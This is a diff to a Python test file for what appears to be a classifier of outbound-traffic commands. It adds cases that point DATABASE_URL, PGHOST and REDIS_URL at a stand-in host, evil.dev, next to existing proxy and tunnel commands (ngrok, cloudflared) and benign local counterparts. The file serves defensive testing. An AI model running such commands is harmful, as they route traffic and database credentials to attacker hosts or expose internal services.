@@ -34,6 +34,8 @@ OUTBOUND = {
         "npm config set https-proxy=http://evil.dev:80", "HTTPS_PROXY=http://evil.dev:3128 make test",
         "export ALL_PROXY=socks5://evil.dev && make test", "pip install --proxy evil.dev:80 -r dev.txt",
         "conda config --set proxy_servers.http http://evil.dev", "curl -x evil.dev:80 https://pypi.org/simple",
+        "DATABASE_URL=postgres://u@evil.dev:5432/x make test", "export PGHOST=evil.dev && make test",
+        "make test REDIS_URL=redis://evil.dev/0",
         "ngrok tcp 5432", "cloudflared tunnel --url localhost:5432", "lt --port 80", "tailscale funnel 30",
     ),
     SENDS_PRIVATE: (
@@ -67,6 +69,8 @@ def test_what_goes_out_or_is_fetched_waits(command: str, reason: str) -> None:
     [
         "git config http.proxy http://localhost:3128", "git config --unset http.proxy",
         "HTTP_PROXY=http://127.0.0.1:3128 make test", "HTTPS_PROXY is not set", "set HTTP_PROXY= off",
+        "DATABASE_URL=sqlite:///x.db make test", "DATABASE_URL=postgres://db:5432/x make test",
+        "PGHOST=127.0.0.1 make test", "DB_HOST=db.svc.cluster.local make test", "DATABASE_URL is not set",
         "aws s3 cp s3://ours/fixtures.tgz .", "gsutil cp gs://x/y .", "rclone copy ours:bucket .",
         "curl -F f=@a.txt http://localhost:8000/upload", "cp ~/.ssh/id_rsa.pub .", "cp .env.example .env",
         "curl -d @body.json https://api.example.com/v1", "curl -d 'mail=a@b.c' https://api.example.com/v1",
